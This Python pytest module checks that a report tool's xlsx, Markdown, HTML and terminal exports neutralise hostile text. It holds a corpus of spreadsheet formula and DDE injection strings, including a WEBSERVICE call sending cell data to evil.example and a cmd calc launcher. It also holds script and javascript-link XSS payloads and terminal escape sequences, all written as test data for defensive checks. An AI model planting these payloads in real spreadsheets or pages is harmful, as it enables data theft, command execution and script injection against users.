"""Hostile text through every export: the scored workbook, Markdown, HTML and the text report.

Every text a table carries (title, unit, project, department, block, category, name, target,
actual, note, grade, budget line, printed rate, source file) and every text perfscore derives
from it or from a ruleset (reasons, findings, provenance, derived values) is set to one payload
of the corpus below, and each export of the table runs in a forked child under a time and
memory bound (tests/bounds.py). None may escape (a live formula in a workbook, a tag, link,
image or injected line in Markdown, a tag in HTML, a terminal escape in the text report), hang,
blow memory, or crash with anything but perfscore's own error naming the file.
"""

from __future__ import annotations

import importlib.util
import re
import shutil
import subprocess
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Optional

import attrs
import pytest

import perfscore
from bounds import Outcome, assert_clean, expect_error, run_bounded
from perfscore.report import Finding, render_text
from perfscore.report.export import ExportError, export, to_html, to_markdown, to_xlsx
from perfscore.reviewing import Review

needs_openpyxl = pytest.mark.skipif(
    importlib.util.find_spec("openpyxl") is None, reason="the xlsx export needs openpyxl"
)

#: What a spreadsheet would run: every way a cell's text can start a formula or DDE call.
FORMULAS = [
    '=WEBSERVICE("http://evil.example/?q="&A1&B1)',
    '=HYPERLINK("http://evil.example/phish","点此查看")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=1+1",
    "#N/A",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
]

#: What a Markdown renderer would turn into HTML, a link, an image or a line of its own.
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[点我](javascript:alert(1))",
    "![](http://evil.example/track.png)",
    "<http://evil.example/>",
    "<!-- 注释 -->",
    "\n# 注入的标题",
    "\n- 注入的列表项",
    "\n> 注入的引用",
    "\n[ref]: http://evil.example/",
    "a | b | c",
    "\n| x | y |\n|---|---|\n| 1 | 2 |",
    "``code`` `x",
    "&lt;script&gt; &#60;b&#62; &amp;",
    "*粗* _斜_ ~~删~~ $x$ {y}",
    "\\",
    "<b onmouseover=alert(1)>悬停</b>",
    "[x]: javascript:alert(1)\n[y][x]",
]

#: Text that must survive every format without a crash, a loss or a misleading rendering.
ODD = [
    "长" * 100_000,
    "👩‍👩‍👧‍👦🏳️‍🌈" * 50,
    "金额\u202e001\u202c元",
    "零\u200b宽\u200d字\ufeff符",
    "空\x00字符",
    "孤\ud800代理\udfff",
    "行一\r\n行二\r行三",
    "\ufeff带BOM",
    "\x1b[31m红字\x1b[0m\x1b]0;标题\x07\x1b[2J",
    "C1\x9b31m\x85\x7f",
    "\ufffe\uffff",
    "_x0041_ _x003D_1+1",
    "\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x1f",
]

CORPUS = FORMULAS + MARKUP + ODD


def visible(text: str) -> str:
    """What every export shows for ``text`` (written here independently of perfscore's
    ``visible``): C0 controls but tab, line feed and carriage return, and DEL, as Control
    Pictures; C1 controls, lone surrogates, U+FFFE/U+FFFF and bidi controls as ⟨U+XXXX⟩."""

    def shown(ch: str) -> str:
        code = ord(ch)
        if code < 0x20 and ch not in "\t\n\r":
            return chr(0x2400 + code)
        if code == 0x7F:
            return "\u2421"
        hidden = 0x80 <= code <= 0x9F or 0xD800 <= code <= 0xDFFF or code in (0xFFFE, 0xFFFF)
        if hidden or 0x202A <= code <= 0x202E or 0x2066 <= code <= 0x2069:
            return f"\u27e8U+{code:04X}\u27e9"
        return ch

    return "".join(shown(ch) for ch in text)


def _evaluation(p: str) -> perfscore.Evaluation:
    """A table whose every text field starts with (or is) ``p``."""
    data: dict[str, Any] = {
        "evaluation": {
            "title": p + "标题",
            "project": p + "项目",
            "department": p + "主管部门",
            "unit": p + "单位",
            "region": "430602",
            "form": "project",
            "year": 2023,
            "reported_total": 95,
            "reported_grade": p + "等级",
        },
        "budget": {
            "initial": 4,
            "full_year": 4,
            "executed": 4,
            "points": 10,
            "rate": p + "执行率",
            "reported_score": 10,
            "lines": [{"name": p + "当年财政拨款", "initial": 4, "full_year": 4, "executed": 4}],
        },
        "rows": [
            {
                "block": "产出指标(50 分)",
                "category": p + "二级",
                "name": p + "三级",
                "target": p + "指标值",
                "actual": p + "完成值",
                "weight": 8,
                "reported_score": 8,
                "note": p + "说明",
            },
            {
                "block": "产出指标(50 分)",
                "category": "数量指标",
                "name": p,
                "target": "9次",
                "actual": "8次",
                "weight": 7,
                "reported_score": 7,
                "note": p,
            },
            {
                "block": p + "一级",
                "category": p,
                "name": p + "名称",
                "target": "100%",
                "actual": "100%",
                "weight": 7,
                "reported_score": 7,
            },
        ],
    }
    return perfscore.Evaluation.from_dict(data, source=p + "来源.toml")


def _review(p: str) -> tuple[perfscore.Evaluation, Review]:
    """The hostile table reviewed, with a ruleset's texts (name, provenance, derived values)
    and one finding of every field hostile too, as a vendor's ruleset could make them."""
    evaluation = _evaluation(p)
    review = perfscore.review(evaluation)
    report = attrs.evolve(
        review.report,
        ruleset_name=p + "规则集",
        provenance={p + "键": p + "文件: 键", "total": p},
        derived={p + "派生": p + "值"},
    )
    finding = Finding(
        code=p + "code",
        severity="error",
        location=p + "rows[0]",
        message_zh=p + "说明",
        message_en=p + "message",
        expected=p + "应为",
        found=p + "实为",
    )
    return evaluation, attrs.evolve(review, report=report, findings=(*review.findings, finding))


_BENIGN = "样例"


def _id(p: str) -> str:
    return ascii(p[:24]) + (f"…{len(p)}" if len(p) > 24 else "")


def _run(outcome: Outcome, what: str) -> Any:
    assert_clean(outcome, what)
    assert outcome.kind == "ok", f"{what}: {outcome}"
    return outcome.value


# -- xlsx ------------------------------------------------------------------------------------


def _write_xlsx(p: str, path: Path) -> None:
    evaluation, review = _review(p)
    to_xlsx(review, path, evaluation=evaluation)


def _cells(path: Path) -> list[Any]:
    import openpyxl

    wb = openpyxl.load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {
            name: z.read(name).decode("utf-8")
            for name in z.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        }


@needs_openpyxl
@pytest.mark.parametrize("payload", FORMULAS + ODD, ids=_id)
def test_xlsx_stores_every_text_as_text(payload: str, tmp_path: Path) -> None:
    path = tmp_path / "hostile.xlsx"
    _run(run_bounded(_write_xlsx, payload, path, seconds=30), f"to_xlsx {_id(payload)}")
    cells = _cells(path)
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    errors = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "e"]
    assert errors == []
    for name, xml in _sheet_xml(path).items():
        assert re.search(r"<f[ >]", xml) is None, f"a formula in {name}"
        assert 't="str"' not in xml, f"a formula's cached text in {name}"
    # The payload is shown, as written, on every sheet it went to.
    shown = visible(payload).replace("\r\n", "\n").replace("\r", "\n")[:1000]
    shown = re.sub(r"_(x[0-9A-Fa-f]{4}_)", r"_x005F_\1", shown)
    for sheet in ("自评表", "发现", "规则"):
        assert any(shown in c.value for c in cells if c.parent.title == sheet and isinstance(c.value, str))
    if len(payload) < 1000:
        assert cells[0].coordinate == "A1" and cells[0].value == shown + "标题"


@needs_openpyxl
def test_xlsx_formula_text_is_quote_prefixed(tmp_path: Path) -> None:
    """Editing a cell that shows a formula's text keeps it text (Excel's and Calc's quotePrefix)."""
    path = tmp_path / "hostile.xlsx"
    _run(run_bounded(_write_xlsx, "=1+1", path), "to_xlsx")
    marked = [c for c in _cells(path) if isinstance(c.value, str) and c.value.startswith("=1+1")]
    assert marked and all(c.quotePrefix for c in marked)


@needs_openpyxl
def test_xlsx_cuts_a_text_too_long_for_a_cell_visibly(tmp_path: Path) -> None:
    path = tmp_path / "long.xlsx"
    payload = "长" * 100_000
    _run(run_bounded(_write_xlsx, payload, path, seconds=30), "to_xlsx long")
    longest = max((c.value for c in _cells(path) if isinstance(c.value, str)), key=len)
    assert len(longest.encode("utf-16-le")) // 2 <= 32767
    assert longest.startswith("长" * 1000)
    assert "已截断" in longest and "100,002" in longest


@needs_openpyxl
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_the_text_and_runs_nothing(tmp_path: Path) -> None:
    """Calc opens the workbook and computes nothing: every sheet, converted to CSV, shows the
    payloads as written (a formula =1+1 would show 2)."""
    path = tmp_path / "hostile.xlsx"
    payload = "=1+1" + "".join(f"\n{f}" for f in FORMULAS if "\r" not in f) + "\n_x0041_"
    _run(run_bounded(_write_xlsx, payload, path, seconds=30), "to_xlsx")
    profile = (tmp_path / "lo-profile").as_uri()
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    sheets = sorted(tmp_path.glob("hostile*.csv"))
    assert len(sheets) == 3
    for sheet in sheets:
        text = sheet.read_text(encoding="utf-8")
        assert "=1+1" in text and '=WEBSERVICE(""http://evil.example/' in text
        assert "cmd|' /C calc'!A0" in text
        assert "_x0041_" in text
        assert "#NAME?" not in text and "Err:" not in text


# -- Markdown --------------------------------------------------------------------------------


def _markdown(p: str) -> str:
    evaluation, review = _review(p)
    return to_markdown(review, evaluation=evaluation)


def _unescaped(line: str, char: str) -> int:
    """How many times ``char`` occurs in ``line`` with its first character not escaped by a
    backslash."""
    return len(re.findall(r"(?<!\\)(?:\\\\)*" + re.escape(char), line))


_SKELETON: dict[str, list[str]] = {}


def _shape(text: str) -> list[str]:
    """Each line's block syntax: its first two characters, and a table row's cell count."""
    return [
        line[:2] + (f"|{_unescaped(line, '|')}" if line.startswith("|") else "") for line in text.splitlines()
    ]


def _benign_shape() -> list[str]:
    if "md" not in _SKELETON:
        _SKELETON["md"] = _shape(_markdown(_BENIGN))
    return _SKELETON["md"]


@pytest.mark.parametrize("payload", CORPUS, ids=_id)
def test_markdown_carries_no_markup_from_the_data(payload: str) -> None:
    text = _run(run_bounded(_markdown, payload, seconds=30), f"to_markdown {_id(payload)}")
    text.encode("utf-8")
    # Only the markup perfscore writes: no tag, link, image, autolink, comment or code span.
    ours = text.replace("<br>", "")
    assert "<" not in ours and ">" not in ours
    assert _unescaped(text, "](") == 0 and _unescaped(text, "]:") == 0
    assert _unescaped(re.sub(r"`[A-Za-z0-9_.\[\]-]+`", "", text), "`") == 0
    # Not a line more, and each line the block it would be with harmless text.
    assert _shape(text) == _benign_shape()
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\u202e]", text)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, Optional[str]]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, Optional[str]]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def _parse(html_text: str) -> _Tags:
    parser = _Tags()
    parser.feed(html_text)
    parser.close()
    return parser


_MD_TAGS = {
    "h1",
    "h2",
    "h3",
    "h4",
    "p",
    "ul",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "br",
    "strong",
    "code",
}


@pytest.mark.parametrize("payload", CORPUS, ids=_id)
def test_markdown_renders_to_no_tag_from_the_data(payload: str) -> None:
    """Rendered as CommonMark (with GFM tables), the report holds only perfscore's own tags,
    no link, image, script or event attribute, and shows the payload's text as written."""
    markdown_it = pytest.importorskip("markdown_it")
    text = _run(run_bounded(_markdown, payload, seconds=30), "to_markdown")
    page = _parse(markdown_it.MarkdownIt("commonmark").enable("table").render(text))
    assert {tag for tag, _ in page.tags} <= _MD_TAGS
    for tag, attributes in page.tags:
        assert set(attributes) <= {"style"}, (tag, attributes)
        assert attributes.get("style") in (None, "text-align:left", "text-align:right", "text-align:center")
    assert page.comments == []
    shown = "".join(page.text)
    for line in visible(payload).splitlines():
        if line.strip():
            assert line.strip()[:2000] in shown


# -- HTML ------------------------------------------------------------------------------------


def _html(p: str) -> str:
    evaluation, review = _review(p)
    return to_html(review, evaluation=evaluation)


_HTML_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "h1",
    "h2",
    "dl",
    "dt",
    "dd",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "p",
    "code",
}
_HTML_ATTRIBUTES = {"lang", "charset", "name", "content", "class", "rowspan", "colspan", "scope"}


@pytest.mark.parametrize("payload", CORPUS, ids=_id)
def test_html_carries_no_markup_from_the_data(payload: str) -> None:
    text = _run(run_bounded(_html, payload, seconds=30), f"to_html {_id(payload)}")
    text.encode("utf-8")
    page = _parse(text)
    assert {tag for tag, _ in page.tags} <= _HTML_TAGS
    for _, attributes in page.tags:
        assert set(attributes) <= _HTML_ATTRIBUTES
    assert page.comments == []
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\u202e]", text)
    shown = "".join(page.text)
    for line in visible(payload).splitlines():
        if line.strip():
            assert line.strip()[:2000] in shown


# -- the text report -------------------------------------------------------------------------


def _text(p: str) -> str:
    return render_text(_review(p)[1].report)


@pytest.mark.parametrize("payload", CORPUS, ids=_id)
def test_text_report_cannot_drive_the_terminal(payload: str) -> None:
    """No escape sequence, control character, bidi override or line of the data's own."""
    text = _run(run_bounded(_text, payload, seconds=30), f"render_text {_id(payload)}")
    text.encode("utf-8")
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069]", text)
    one_line = _text(re.sub(r"[\r\n]", " ", payload))
    assert text.count("\n") == one_line.count("\n")
    assert sum(line.startswith("总分 total:") for line in text.splitlines()) == 1


# -- write failures --------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "md", "html"])
@pytest.mark.parametrize(
    "name",
    ["no-such-folder/out", "nul\x00byte", "lone\ud800surrogate", "."],
    ids=["missing-folder", "nul", "surrogate", "a-folder"],
)
def test_a_failed_write_is_an_export_error_naming_the_file(fmt: str, name: str, tmp_path: Path) -> None:
    if fmt == "xlsx" and importlib.util.find_spec("openpyxl") is None:
        pytest.skip("the xlsx export needs openpyxl")
    path = str(tmp_path / name) if name != "." else str(tmp_path)
    evaluation, review = _review("=1+1")
    outcome = run_bounded(export, review, fmt, path, evaluation=evaluation)
    message = expect_error(outcome, "cannot write", f"{fmt} to {name!r}")
    assert outcome.error_type == ExportError.__name__
    assert visible(path.split("\x00")[0]) in message
